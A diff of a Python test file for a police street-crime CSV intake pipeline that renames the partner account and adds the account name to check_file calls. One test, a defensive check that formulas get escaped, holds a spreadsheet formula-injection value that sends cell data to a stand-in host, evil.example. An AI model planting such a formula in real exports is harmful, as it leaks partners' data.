@@ -28,13 +28,13 @@ def raw_count(settings, where: str = "true") -> int:
 
 
 def outbox(settings, name: str) -> dict[str, str]:
-    with open_account(settings, "police") as police:
+    with open_account(settings, "city_of_london_police") as police:
         names = [n for n in police.listdir("outbox/street_crime") if n.startswith(name)]
         return {n: police.read_bytes(f"outbox/street_crime/{n}").decode() for n in names}
 
 
 def drop(settings, path, name=None):
-    with open_account(settings, "police") as police:
+    with open_account(settings, "city_of_london_police") as police:
         police.upload(path, "street_crime", name=name)
 
 
@@ -72,7 +72,7 @@ def test_published_rows_equal_the_files_data_rows_and_a_second_drop_adds_none(sf
     assert entries[0].duplicate_of == outcome.file_id
     assert "DUPLICATE" in outbox(sftp, "resent-copy.csv")["resent-copy.csv.duplicate.txt"]
     # the inbox is empty once files have an outcome
-    with open_account(sftp, "police") as police:
+    with open_account(sftp, "city_of_london_police") as police:
         assert police.listdir("inbox/street_crime") == []
 
 
@@ -170,12 +170,12 @@ def test_check_file_reports_every_problem_without_recording_anything(settings, p
         rows[2][1] = "2020/01"
 
     bad = write_variant(POLICE_SAMPLE, tmp_path / "two-bad.csv", damage)
-    report = intake.check_file(settings, police_contract, bad)
+    report = intake.check_file(settings, police_contract, bad, "city_of_london_police")
     assert report["outcome"] == "failed"
     [problem] = report["problems"]
     assert problem["rows_failing"] == 2
     assert [e["line"] for e in problem["examples"]] == [2, 3]
-    assert intake.check_file(settings, police_contract, POLICE_SAMPLE)["outcome"] == "passed"
+    assert intake.check_file(settings, police_contract, POLICE_SAMPLE, "city_of_london_police")["outcome"] == "passed"
     with connect(settings.warehouse_url) as conn:
         assert conn.execute("select count(*) from ops.file_ledger").fetchone()[0] == 0
         assert conn.execute("select count(*) from information_schema.tables where table_schema = 'landing'"
@@ -188,7 +188,7 @@ def test_title_rows_above_the_header_are_skipped_and_lines_still_match_the_file(
         return [["City of London Police - street crime, January 2020"], ["Extracted 2020-02-03", "", "v2"], [], *rows]
 
     f = write_variant(POLICE_SAMPLE, tmp_path / "titled.csv", with_preamble)
-    report = intake.check_file(settings, police_contract, f)
+    report = intake.check_file(settings, police_contract, f, "city_of_london_police")
     assert report["outcome"] == "failed" and report["rows"] == 797
     [problem] = report["problems"]
     # title, extract line, blank line, header = lines 1-4; data row 2 is line 6
@@ -203,7 +203,7 @@ def test_every_ragged_row_is_listed_not_just_the_first(settings, police_contract
     lines[20] = lines[20].rsplit(b",", 2)[0]  # line 21: 10 cells
     f = tmp_path / "ragged.csv"
     f.write_bytes(b"\r\n".join(lines))
-    report = intake.check_file(settings, police_contract, f)
+    report = intake.check_file(settings, police_contract, f, "city_of_london_police")
     [problem] = report["problems"]
     assert problem["check"] == "row_length" and problem["rows_failing"] == 2
     assert [(e["line"], e["value"]) for e in problem["examples"]] == [(4, "13 cells"), (21, "10 cells")]
@@ -240,13 +240,13 @@ def test_reports_back_to_partners_never_carry_a_live_spreadsheet_formula(sftp, p
         rows[2][9] = "@SUM(1+1)"
 
     bad = write_variant(POLICE_SAMPLE, tmp_path / "poisoned.csv", poison)
-    with open_account(sftp, "police") as police:
+    with open_account(sftp, "city_of_london_police") as police:
         police.upload(bad, "street_crime")
     [file_id] = intake.fetch(sftp, police_contract)
     intake.load(sftp, police_contract, file_id)
     intake.validate(sftp, police_contract, file_id)
     assert intake.publish(sftp, police_contract, file_id).status == "quarantined"
-    with open_account(sftp, "police") as police:
+    with open_account(sftp, "city_of_london_police") as police:
         text = police.read_bytes("outbox/street_crime/poisoned.csv.quarantined.csv").decode("utf-8-sig")
     values = [row[5] for row in csv_module.reader(io.StringIO(text))][1:]
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in values and "'@SUM(1+1)" in values
